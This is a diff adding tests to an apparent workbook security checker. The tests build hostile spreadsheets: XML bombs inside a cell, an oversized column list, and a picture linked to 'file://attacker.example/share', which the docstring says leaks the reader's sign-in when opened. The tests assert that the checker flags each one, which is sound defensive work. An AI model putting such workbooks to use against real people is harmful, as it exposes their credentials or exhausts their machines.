@@ -1471,3 +1471,45 @@ def test_data_connections_are_wb010(tmp_path):
     assert messages == ["The workbook holds data connections (part xl/connections.xml): opening the original may "
                         "make it fetch data from another file or server."]
     assert report.exit_code == 0
+
+
+def _with_sheet2(tmp_path, change) -> bytes:
+    from tests.hostile import rezip
+
+    data = valid_bytes(tmp_path)
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        sheet = z.read("xl/worksheets/sheet2.xml")
+    return rezip(data, replace={"xl/worksheets/sheet2.xml": change(sheet)})
+
+
+@pytest.mark.parametrize("inside, words", [
+    (b"<x>" * 9 + b"</x>" * 9, "holds more than 8 levels or 20,000 elements of XML"),
+    (b'<x a="1"/>' * 20_001, "holds more than 8 levels or 20,000 elements of XML"),
+], ids=["nested", "side-by-side"])
+def test_a_cell_of_more_xml_than_any_program_writes_is_wb001(tmp_path, inside, words):
+    """Found by a fresh attack: each element of an open cell is held until the cell ends, and some checks look at
+    all of them: 990,000 nested elements in one cell took 1.18 GB, and nested formulas 60 s of processor time."""
+    findings = _refused(tmp_path, _with_sheet2(tmp_path, lambda x: x.replace(
+        b'<c r="B5" t="n"><v>2</v></c>', b'<c r="B5" t="n">' + inside + b"<v>2</v></c>", 1)))
+    assert [f.rule_id for f in findings] == ["WB001"] and words in findings[0].message
+
+
+def test_more_column_descriptions_than_columns_are_wb001(tmp_path):
+    """Found by a fresh attack: 300,000 `<col>` elements with a date style, each searched for every number cell,
+    held a checker for a minute."""
+    cols = b"<cols>" + b"".join(b'<col min="%d" max="%d" style="1"/>' % (i, i) for i in range(1, 16_386)) + b"</cols>"
+    findings = _refused(tmp_path, _with_sheet2(tmp_path, lambda x: x.replace(b"<sheetData>", cols + b"<sheetData>",
+                                                                              1)))
+    assert [f.rule_id for f in findings] == ["WB001"] and "describes more than 16,384 columns" in findings[0].message
+
+
+def test_a_picture_linked_from_outside_is_wb010(tmp_path):
+    """Found by a fresh attack: Excel fetches a linked picture as the workbook opens (a file share's sends the
+    reader's sign-in), and only linked OLE objects were reported."""
+    rels = {"xl/drawings/_rels/drawing1.xml.rels": (
+        f'<Relationships xmlns="{PKG_RELS_NS}"><Relationship Id="rId1" Type="{WS_REL}image" '
+        'Target="file://attacker.example/share/logo.png" TargetMode="External"/></Relationships>').encode()}
+    report, messages = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), rels))
+    assert messages == ["The workbook links a picture to the external file 'file://attacker.example/share/logo.png' "
+                        "(part xl/drawings/_rels/drawing1.xml.rels): opening the original may make it reach that "
+                        "file."]
